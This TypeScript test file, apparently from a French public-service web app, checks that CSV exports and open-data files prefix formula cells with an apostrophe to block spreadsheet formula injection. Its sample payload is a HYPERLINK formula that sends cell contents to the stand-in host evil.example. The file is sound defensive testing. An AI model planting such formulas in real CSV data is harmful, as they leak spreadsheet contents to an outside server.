import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importerFranceServices } from '../../src/modules/imports/index.ts';
import { lireCsv } from '../../src/modules/imports/lecture-csv.ts';
import { structureNommee } from '../fabriques.ts';
import { type Contexte, clientConnecte, DEMO, demarrerApp } from '../harnais.ts';

// A spreadsheet opening a CSV runs a cell that starts with = + - @ as a formula: every CSV guichet writes prefixes such
// cells with an apostrophe, including what a manager typed and what the public open-data files publish.

const FORMULE = '=HYPERLINK("http://evil.example/?d="&A2,"Voir le détail")';

let ctx: Contexte;
beforeAll(async () => {
  ctx = await demarrerApp();
});
afterAll(() => ctx.fermer());

function lire(csv: string) {
  const lu = lireCsv(csv.replace(/^\uFEFF/, ''));
  if (!lu.ok) throw new Error(lu.erreur);
  return lu;
}
function colonne(csv: string, nom: string): string[] {
  const lu = lire(csv);
  const i = lu.entete.indexOf(nom);
  return lu.enregistrements.map((e) => e.champs[i] ?? '');
}
/** Cells a spreadsheet would run: starting with = or @, or with + or - followed by more than digits. */
const formules = (csv: string) =>
  lire(csv).enregistrements.flatMap((e) => e.champs.filter((c) => /^[=@]|^[+-].*[^\d\s.,%+-]/.test(c)));

describe('CSV formula injection', () => {
  it('a local partner named as a formula comes out of the request export as text', async () => {
    const gestion = await clientConnecte(ctx.app, DEMO.gestionSceaux);
    const sceaux = await structureNommee(ctx, 'France services de Sceaux');
    await gestion.get('/admin/catalogue/partenaires/nouveau');
    const cree = await gestion.post('/admin/catalogue/partenaires', {
      nom: FORMULE,
      nomCourt: FORMULE,
      structureId: sceaux,
    });
    expect(cree.statusCode).toBe(303);
    const [partenaire] = await ctx.sql<{ id: string }>('select id from partenaires where nom = $1', [FORMULE]);
    const [site] = await ctx.sql<{ id: string }>(`select id from sites where nom = 'France services de Sceaux'`);
    await gestion.get('/sollicitations');
    const saisie = await gestion.post('/sollicitations', {
      site: site?.id ?? '',
      situation: 'papiers',
      canal: 'accueil_physique',
      niveau: 'aide_demarche',
      issue: 'resolu',
      duree: 'de_10_a_30',
      partenaires: [partenaire?.id ?? ''],
    });
    expect(saisie.statusCode).toBe(303);

    const jour = new Intl.DateTimeFormat('en-CA', { timeZone: 'Europe/Paris' }).format(new Date());
    const csv = await gestion.get(`/sollicitations/export?du=${jour}&au=${jour}&format=csv`);
    expect(csv.statusCode).toBe(200);
    const cellules = colonne(csv.body, 'Partenaires');
    expect(cellules).toContain(`'${FORMULE}`);
    expect(formules(csv.body)).toEqual([]);
  });

  it('the open-data files neutralise a formula, and re-importing the ANCT file recovers the value typed', async () => {
    await ctx.sql(`update sites set commentaire = $1, nom = $2, id_fs = 999999 where nom = 'Maison du Plateau'`, [
      FORMULE,
      '@Maison du Plateau',
    ]);
    const anct = (await ctx.app.inject({ url: '/donnees/france-services.csv' })).body;
    expect(colonne(anct, 'commentaire')).toContain(`'${FORMULE}`);
    expect(colonne(anct, 'lib_fs')).toContain("'@Maison du Plateau");
    const mediation = (await ctx.app.inject({ url: '/donnees/lieux-mediation-numerique.csv' })).body;
    expect(colonne(mediation, 'nom')).toContain("'@Maison du Plateau");
    expect(formules(anct)).toEqual([]);
    expect(formules(mediation)).toEqual([]);

    await ctx.sql(`update sites set commentaire = null, nom = 'renommé' where id_fs = 999999`);
    const national = { national: true, departements: [], structures: [], sites: [], partenaires: [] };
    await importerFranceServices(ctx.database.db, national, anct);
    const [apres] = await ctx.sql(`select nom, commentaire from sites where id_fs = 999999`);
    expect(apres).toEqual({ nom: '@Maison du Plateau', commentaire: FORMULE });
  });
});
